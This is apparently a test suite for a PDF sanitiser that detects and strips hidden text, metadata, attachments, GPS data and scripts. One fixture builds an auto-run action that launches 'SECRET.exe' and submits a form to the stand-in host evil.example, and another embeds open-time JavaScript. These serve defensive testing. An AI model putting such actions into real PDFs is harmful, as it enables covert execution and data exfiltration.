import { describe, expect, it } from 'vitest';
import { clean, found, inspect, PHONE, RESIDENT } from '../fixtures/inspected.ts';
import { box, type Extras, pdf, stream, updated, write } from '../fixtures/pdfs.ts';
import { exif, exifSegment, PHOTO, photo } from '../fixtures/pictures.ts';
import { withPage, withPdf } from './pdfium.ts';

/** What can be copied from the first page. */
const textOf = (bytes: Uint8Array): Promise<string> =>
  withPdf(bytes, (library, document) =>
    withPage(library, document, 1, ({ page }) => {
      const text = library.FPDFText_LoadPage(page);
      const count = library.FPDFText_CountChars(text);
      const codes = Array.from({ length: count }, (_, index) => library.FPDFText_GetUnicode(text, index));
      library.FPDFText_ClosePage(text);
      return String.fromCodePoint(...codes).trim();
    }),
  );

const shown = write('Shown', 20, 150);
const layer = {
  catalog: '/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>',
  resources: '/Properties << /L 6 0 R >>',
  objects: ['<< /Type /OCG /Name (Layer) >>'],
};
const image = (bytes: Uint8Array) =>
  stream(
    Buffer.from(bytes).toString('latin1'),
    '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode',
  );
const grey = stream(
  '\x80',
  '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8',
);

describe('text that can be copied and not be seen', () => {
  it.each<[string, string, Extras, string]>([
    ['under a black bar', write('SECRET') + box(10, 90, 200, 30), {}, 'covered-text'],
    ['under a white bar', write('SECRET') + box(10, 90, 200, 30, '1 g'), {}, 'covered-text'],
    [
      'under a picture',
      `${write('SECRET')} q 200 0 0 40 10 85 cm /I Do Q`,
      { resources: '/XObject << /I 6 0 R >>', objects: [grey] },
      'covered-text',
    ],
    ['under a thick stroke', `${write('SECRET')} q 30 w 10 104 m 250 104 l S Q`, {}, 'covered-text'],
    ['white on white', write('SECRET', 20, 100, '1 g'), {}, 'covered-text'],
    ['black on a black bar', box(10, 90, 200, 30) + write('SECRET'), {}, 'covered-text'],
    ['in invisible letters', write('SECRET', 20, 100, '3 Tr'), {}, 'covered-text'],
    [
      'wholly transparent',
      `q /T gs ${write('SECRET')} Q`,
      { resources: '/ExtGState << /T << /ca 0 >> >>' },
      'covered-text',
    ],
    ['clipped away', `q 200 10 20 20 re W n ${write('SECRET')} Q`, {}, 'covered-text'],
    ['on a layer that is off', `/OC /L BDC ${write('SECRET')} EMC`, layer, 'covered-text'],
    ['beyond the edge', write('SECRET', 400, 100), {}, 'outside-page'],
    ['cropped away', write('SECRET', 20, 20), { page: '/CropBox [0 60 300 200]' }, 'outside-page'],
    [
      'under a bar with a label on it',
      write('SECRET') +
        box(10, 90, 200, 30) +
        write('(b) 17', 30, 100, '1 g').replace('(b) 17', '\\(b\\) 17'),
      {},
      'covered-text',
    ],
    [
      'under a mark laid over the page',
      write('SECRET'),
      {
        page: '/Annots [6 0 R]',
        objects: [
          '<< /Type /Annot /Subtype /Square /Rect [10 90 210 120] /AP << /N 7 0 R >> >>',
          stream('0 g 0 0 200 30 re f', '/Type /XObject /Subtype /Form /BBox [0 0 200 30]'),
        ],
      },
      'covered-text',
    ],
  ])('%s', async (_, content, extras, kind) => {
    const bytes = pdf(`${shown}\n${content}`, extras);
    const findings = await inspect(bytes, 'a.pdf');
    expect(findings.map((finding) => finding.kind)).toContain(kind);
    const { bytes: cleaned, left } = await clean(bytes, 'a.pdf');
    expect(left.filter(({ kind: other }) => other !== 'hidden-layer')).toEqual([]);
    const text = await textOf(cleaned);
    expect(text).toContain('Shown');
    expect(text).not.toContain('SECRET');
    expect(Buffer.from(cleaned).toString('latin1')).not.toContain('SECRET');
  });

  it.each<[string, string, Extras]>([
    ['white on black', box(10, 90, 200, 30) + write('White', 20, 100, '1 g'), {}],
    [
      'marked with a pen',
      `${write('Marked')} q /M gs ${box(10, 90, 200, 30, '1 1 0 rg')} Q`,
      { resources: '/ExtGState << /M << /BM /Multiply >> >>' },
    ],
    ['light grey', write('Grey', 20, 100, '0.8 g'), {}],
    ['a watermark', write('Draft', 20, 60, '0.95 g', 80), {}],
    ['of five points', write('small print 123', 20, 100, '', 5), {}],
    ['printed twice to look bold', write('Bold') + write('Bold', 20.3, 100), {}],
    [
      'within a form',
      'q /X Do Q',
      {
        resources: '/XObject << /X 6 0 R >>',
        objects: [
          stream(
            write('Form'),
            '/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /Font << /F 5 0 R >> >>',
          ),
        ],
      },
    ],
    [
      'turned and askew',
      'q 0 1 -1 0 150 20 cm BT /F 12 Tf (Turned) Tj ET Q q 0.7 0.7 -0.7 0.7 200 20 cm BT /F 12 Tf (Askew) Tj ET Q',
      {},
    ],
    ['on a page that is turned', write('Turned'), { page: '/Rotate 90' }],
    [
      'in a Chinese font that is not embedded',
      'BT /G 12 Tf 20 100 Td <b0a1b0a2> Tj ET',
      {
        resources: '/Font << /F 5 0 R /G 6 0 R >>',
        objects: [
          '<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /GBK-EUC-H /DescendantFonts [7 0 R] >>',
          '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /DW 1000 /FontDescriptor 8 0 R >>',
          '<< /Type /FontDescriptor /FontName /SimSun /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 700 /StemV 80 >>',
        ],
      },
    ],
  ])('is not text %s: a reader sees it', async (_, content, extras) => {
    expect(await found(pdf(content, extras), 'a.pdf')).toEqual([]);
  });

  it('is not taken out of a line that is seen in part', async () => {
    const bytes = pdf(write('Half of this is covered') + box(80, 90, 200, 30));
    const [finding] = await inspect(bytes, 'a.pdf');
    expect([finding?.kind, finding?.cleaning]).toEqual(['covered-text', null]);
    expect(finding?.evidence.join()).not.toContain('covered');
  });
});

const attachment = [
  '<< /Type /Filespec /F (zhang.txt) /UF (zhang.txt) /EF << /F 7 0 R >> >>',
  stream('SECRET', '/Type /EmbeddedFile'),
];
const field = (value: string) => [
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (${value}) /Rect [20 50 120 70] /AP << /N 7 0 R >> >>`,
  stream(
    write('Filled', 2, 5),
    '/Type /XObject /Subtype /Form /BBox [0 0 100 20] /Resources << /Font << /F 5 0 R >> >>',
  ),
];
const xmp =
  '<x:xmpmeta><rdf:RDF><rdf:Description pdfaid:part="2" pdfaid:conformance="B"><dc:creator><rdf:Seq><rdf:li>Zhang San</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>';

describe('what a PDF holds beside its pages', () => {
  it.each<[string, () => Uint8Array, string[]]>([
    ['nothing', () => pdf(shown), []],
    [
      'an earlier version',
      () => updated(pdf(`${shown} ${write('SECRET')}`), 4, stream(shown)),
      ['older-revision（整个文件）'],
    ],
    [
      'bytes before and behind',
      () => Buffer.concat([Buffer.from('SECRET\n'), pdf(shown), Buffer.from('SECRET')]),
      ['trailing-data（整个文件）'],
    ],
    [
      'objects nothing leads to',
      () => pdf(shown, { objects: [stream(write('SECRET'))] }),
      ['unused-objects（整个文件）'],
    ],
    [
      'an attachment',
      () =>
        pdf(shown, { catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>', objects: attachment }),
      ['attachment（整个文件）'],
    ],
    [
      'an attachment pinned to the page',
      () =>
        pdf(shown, {
          page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]',
          objects: attachment,
        }),
      ['annotation（第 1 页）', 'attachment（整个文件）'],
    ],
    [
      'scripts',
      () =>
        pdf(shown, {
          catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
          page: '/AA << /O 6 0 R >>',
          objects: ['<< /S /JavaScript /JS (app.alert\\("SECRET"\\)) >>'],
        }),
      ['javascript（整个文件）'],
    ],
    [
      'a program to be started, a form to be sent',
      () =>
        pdf(shown, {
          catalog:
            '/OpenAction << /S /Launch /F (SECRET.exe) /Next << /S /SubmitForm /F (http://evil.example) >> >>',
        }),
      ['outside-action（整个文件）'],
    ],
    [
      'a link into the house; one to the web is no secret',
      () =>
        pdf(shown, {
          page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/SECRET.docx) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.cn/) >> >>]',
        }),
      ['internal-path（整个文件）'],
    ],
    [
      'a remark and a stamp',
      () =>
        pdf(shown, {
          page: '/Annots [<< /Type /Annot /Subtype /Text /Contents (SECRET) /Rect [0 0 9 9] >> << /Type /Annot /Subtype /Stamp /Rect [20 50 120 70] /Contents (SECRET) /AP << /N 6 0 R >> >>]',
          objects: [field('')[1] ?? ''],
        }),
      ['annotation（第 1 页）'],
    ],
    [
      'a form that was filled in',
      () =>
        pdf(shown, {
          catalog: '/AcroForm << /Fields [6 0 R] >>',
          page: '/Annots [6 0 R]',
          objects: field('SECRET'),
        }),
      ['form-values（表单）'],
    ],
    [
      'who wrote it',
      () =>
        pdf(shown, {
          catalog: '/Metadata 7 0 R',
          objects: [
            '<< /Author (Zhang San) /Keywords (SECRET) /Producer (x) >>',
            stream(xmp, '/Type /Metadata /Subtype /XML'),
          ],
          trailer: '/Info 6 0 R',
        }),
      ['document-author（文件属性）', '~document-properties（文件属性）'],
    ],
    [
      'a thumbnail and data of programs',
      () =>
        pdf(shown, { page: '/Thumb 6 0 R /PieceInfo << /Word << /Private (SECRET) >> >>', objects: [grey] }),
      ['private-data（整个文件）', 'thumbnail（整个文件）'],
    ],
    [
      'a photograph with its place',
      () =>
        pdf(`${shown} q 50 0 0 50 10 10 cm /I Do Q`, {
          resources: '/XObject << /I 6 0 R >>',
          objects: [image(photo([exifSegment(exif([[[0x8825, 4, 1, 26]], [[1, 2, 2, 0]]]))]))],
        }),
      ['gps-position（页面中的图片）'],
    ],
  ])('%s', async (_, make, findings) => {
    const bytes = make();
    expect(await found(bytes, 'a.pdf')).toEqual(findings.sort());
    const { bytes: cleaned, left } = await clean(bytes, 'a.pdf');
    expect(left).toEqual([]);
    expect(await textOf(cleaned)).toContain('Shown');
    const rest = Buffer.from(cleaned).toString('latin1');
    for (const secret of ['SECRET', 'Zhang', 'evil']) expect(rest).not.toContain(secret);
  });

  it('keeps what is seen of stamps and fields, and the mark of the archive standard', async () => {
    const form = pdf(shown, {
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      objects: field('SECRET'),
    });
    expect(await textOf((await clean(form, 'a.pdf')).bytes)).toContain('Filled');
    const archived = pdf(shown, {
      catalog: '/Metadata 6 0 R',
      objects: [stream(xmp, '/Type /Metadata /Subtype /XML')],
    });
    const { bytes } = await clean(archived, 'a.pdf');
    expect(Buffer.from(bytes).toString('latin1')).toContain('pdfaid:part="2"');
  });

  it('tells personal data on its pages and in its bookmarks, which only redaction takes away', async () => {
    const bytes = pdf(write(`ID ${RESIDENT}`), {
      catalog: '/Outlines 6 0 R',
      objects: [`<< /Type /Outlines /First << /Title (${PHONE}) >> >>`],
    });
    const findings = await inspect(bytes, 'a.pdf');
    expect(findings.map(({ kind, place, cleaning }) => [kind, place, cleaning])).toEqual([
      ['resident-number', '第 1 页', null],
      ['mobile-number', '书签、标签等内部文字', null],
    ]);
  });

  it('is refused when it has a password or is no PDF', async () => {
    const encrypted = pdf(shown, {
      objects: [
        '<< /Filter /Standard /V 1 /R 2 /O (12345678901234567890123456789012) /U (12345678901234567890123456789012) /P -4 >>',
      ],
      trailer: '/Encrypt 6 0 R /ID [<00> <00>]',
    });
    await expect(inspect(encrypted, 'a.pdf')).rejects.toMatchObject({ fault: 'encrypted' });
    await expect(inspect(Buffer.from('%PDF-1.7\nnothing'), 'a.pdf')).rejects.toMatchObject({
      fault: 'damaged',
    });
  });

  it('leaves a plain photograph as it is', async () => {
    const bytes = pdf('q 50 0 0 50 10 10 cm /I Do Q', {
      resources: '/XObject << /I 6 0 R >>',
      objects: [image(PHOTO)],
    });
    expect(await found(bytes, 'a.pdf')).toEqual([]);
  });
});
